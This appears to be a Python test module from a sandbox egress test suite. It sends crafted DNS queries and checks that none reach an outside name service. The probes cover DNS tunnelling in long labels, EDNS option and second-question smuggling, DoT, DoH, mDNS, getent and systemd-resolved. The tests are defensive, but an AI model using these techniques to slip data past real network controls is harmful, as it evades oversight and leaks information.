"""Names as a way out: whatever is asked must never reach a name service outside."""

from __future__ import annotations

import socket
import struct
import subprocess
from contextlib import closing, suppress

from .base import Judge, Target, attack, each
from .wire import ask, block, code, connect, greet, hello, labels, question, record, server_name

_KINDS: dict[str, object] = {
    "A": 1,
    "NS": 2,
    "CNAME": 5,
    "NULL": 10,
    "PTR": 12,
    "MX": 15,
    "TXT": 16,
    "AAAA": 28,
    "SRV": 33,
    "HTTPS": 65,
    "ANY": 255,
    "AXFR": 252,
}


@each(Judge.QUESTION, "question", _KINDS)
def kind(target: Target, case: object) -> str:
    return code(ask(question(f"{target.nonce}.{target.name}".encode(), int(case))))  # type: ignore[call-overload]


@attack(Judge.QUESTION, "question by TCP")
def stream(target: Target) -> str:
    return code(ask(question(f"{target.nonce}.{target.name}".encode()), stream=True)[2:])


@attack(Judge.QUESTION, "a long name, full of data")
def tunnel(target: Target) -> str:
    data = ".".join("d" * 60 for _ in range(2))
    return code(ask(question(f"{target.nonce}.{data}.{target.name}".encode(), 16)))


@attack(Judge.QUESTION, "data in an option behind a question for an allowed name (EDNS)")
def option(target: Target) -> str:
    data = block(struct.pack(">H", 65001) + block(target.nonce.encode()))
    more = b"\0" + struct.pack(">HHI", 41, 4096, 0) + data
    return code(ask(question(target.wild.encode(), counts=(1, 0, 0, 1), more=more)))


@attack(Judge.QUESTION, "data behind a question for an allowed name")
def behind(target: Target) -> str:
    return code(ask(question(target.wild.encode(), more=target.nonce.encode())))


@attack(Judge.QUESTION, "two questions, the first for an allowed name")
def two(target: Target) -> str:
    second = labels(f"{target.nonce}.{target.name}".encode()) + struct.pack(">HH", 1, 1)
    return code(ask(question(target.wild.encode(), counts=(2, 0, 0, 0), more=second)))


@attack(Judge.QUESTION, "a dot inside a label")
def dotted(target: Target) -> str:
    label = f"{target.nonce}.{target.name}".encode()
    head = b"qg" + struct.pack(">HHHHH", 0x0100, 1, 0, 0, 0)
    return code(ask(head + block(label[:63], 1) + labels(target.world.wild.encode()) + struct.pack(">HH", 1, 1)))


@attack(Judge.QUESTION, "a pointer in a question")
def pointer(target: Target) -> str:
    head = b"qg" + struct.pack(">HHHHH", 0x0100, 1, 0, 0, 0)
    return code(ask(head + block(target.nonce.encode(), 1) + b"\xc0\x0c" + struct.pack(">HH", 1, 1)))


_FLAGS: dict[str, object] = {"update": 0x2800, "notify": 0x2000, "status": 0x1000, "inverse": 0x0800}


@each(Judge.QUESTION, "operation", _FLAGS)
def operation(target: Target, case: object) -> str:
    return code(ask(question(f"{target.nonce}.{target.name}".encode(), flags=int(case))))  # type: ignore[call-overload]


@attack(Judge.QUESTION, "class CHAOS")
def chaos(target: Target) -> str:
    return code(ask(question(f"{target.nonce}.{target.name}".encode(), 16, of=3)))


@attack(Judge.QUESTION, "another name service, UDP")
def other(target: Target) -> str:
    return code(ask(question(f"{target.nonce}.{target.name}".encode()), target.world.resolver))


@attack(Judge.QUESTION, "another name service, TCP")
def other_stream(target: Target) -> str:
    return code(ask(question(f"{target.nonce}.{target.name}".encode()), target.world.resolver, stream=True)[2:])


@attack(Judge.PACKET, "another name service, TLS (853)")
def over_tls(target: Target) -> str:
    return code(ask(question(b"x"), target.public, stream=True, port=853))


@attack(Judge.PACKET, "another name service, HTTPS")
def over_https(target: Target) -> str:
    return code(ask(record(hello(target.nonce, server_name(b"dns.example"))), target.public, stream=True, port=443))


@attack(Judge.PACKET, "another name service, HTTPS through the proxy")
def over_proxy(target: Target) -> str:
    return greet(f"{target.name}:443", record(hello(target.nonce, server_name(target.name.encode()))))


@attack(Judge.QUESTION, "the C library's own resolver")
def library(target: Target) -> str:
    return str(socket.getaddrinfo(f"{target.nonce}.{target.name}", 443))


@attack(Judge.QUESTION, "the C library's own resolver, in another process")
def getent(target: Target) -> str:
    command = ["getent", "ahosts", f"{target.nonce}.{target.name}"]
    return subprocess.run(command, capture_output=True, text=True, timeout=3, check=False).stdout


@attack(Judge.QUESTION, "a refused name in CONNECT, which must not be looked up")
def refused(target: Target) -> str:
    return connect(f"{target.nonce}.{target.name}:443")


@attack(Judge.QUESTION, "a denied name below an allowed wildcard in CONNECT")
def denied(target: Target) -> str:
    return connect(f"{target.nonce}.{target.world.denied}:443")


@attack(Judge.QUESTION, "an allowed name at a port that is not, which must not be looked up")
def port(target: Target) -> str:
    return connect(f"{target.nonce}.{target.world.wild}:22")


@attack(Judge.QUESTION, "a name in a greeting")
def greeting(target: Target) -> str:
    evil = server_name(f"{target.nonce}.{target.name}".encode())
    return greet(f"{target.wild}:443", record(hello("x" * 14, evil)))


@attack(Judge.QUESTION, "a reverse question")
def reverse(target: Target) -> str:
    return code(ask(question(f"{target.nonce}.66.44.in-addr.arpa".encode(), 12)))


@attack(Judge.QUESTION, "multicast names (mDNS)")
def multicast(target: Target) -> str:
    with closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as end:
        end.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
        return str(end.sendto(question(f"{target.nonce}.local".encode()), ("224.0.0.251", 5353)))


@attack(Judge.QUESTION, "the resolver of systemd by its socket")
def varlink(target: Target) -> str:
    asked = b'{"method":"io.systemd.Resolve.ResolveHostname","parameters":{"name":"%s.%s"}}\0' % (
        target.nonce.encode(),
        target.name.encode(),
    )
    with closing(socket.socket(socket.AF_UNIX)) as end:
        end.connect(target.world.sockets["resolved"])
        end.sendall(asked)
        with suppress(OSError):
            end.settimeout(0.5)
            return repr(end.recv(10))
    return "asked"
